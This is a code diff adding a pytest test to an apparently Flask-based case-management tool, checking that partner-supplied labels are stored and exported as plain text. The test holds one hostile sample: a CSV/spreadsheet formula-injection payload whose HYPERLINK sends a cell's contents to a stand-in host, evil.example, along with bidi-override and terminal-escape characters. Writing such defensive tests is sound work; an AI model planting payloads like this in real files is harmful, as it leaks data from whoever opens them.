@@ -407,3 +407,31 @@ def test_our_file_compared_with_a_copy_marks_every_case(
         marks = s.scalars(select(PartnerMark)).all()
         assert [str(m.case_id) for m in marks] == [made["consenting"]["id"]]
         assert marks[0].body is not None and marks[0].body["label"] == "Ours (2)"
+
+
+def test_a_partner_label_cannot_be_a_formula_or_hide_characters(
+    app: Flask, client: FlaskClient, tmp_path: Path
+) -> None:
+    """A partner file's label is someone else's text: the CSV shows it as text, not a formula,
+    and neither the output nor lawyers' marks keep its NUL, controls or bidi overrides."""
+    _cases(app, client)
+    ours = tmp_path / "ours.json"
+    out = _invoke(
+        app, "partners", "export", "-o", str(ours), "--secret-file", str(_secret_file(tmp_path))
+    )
+    assert out.exit_code == 0, out.output
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"open")\u202eevil\u0000\x1b[2J'
+    theirs = _partner_file(tmp_path / "theirs.json", [(PERSON, "aleppo")], evil + "x" * 500)
+    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "csv")
+    assert out.exit_code == 0, out.output
+    header = out.stdout.splitlines()[0]
+    assert header.split(",", 1)[1].startswith("\"'=HYPERLINK(")  # text, not a formula
+    for bad in ("\u202e", "\x00", "\x1b"):
+        assert bad not in out.stdout
+    text = _invoke(app, "partners", "compare", str(ours), str(theirs))
+    assert "\t'=HYPERLINK(" in text.stdout and "\u202e" not in text.stdout
+    with app.extensions["casebook.db"].sessionmaker() as s:
+        (mark,) = s.scalars(select(PartnerMark)).all()
+        label = (mark.body or {})["label"]
+    assert label.startswith('=HYPERLINK("http://evil.example/?"&A2,"open")evil[2J')
+    assert len(label) <= 100 and not any(ord(c) < 32 or c == "\u202e" for c in label)
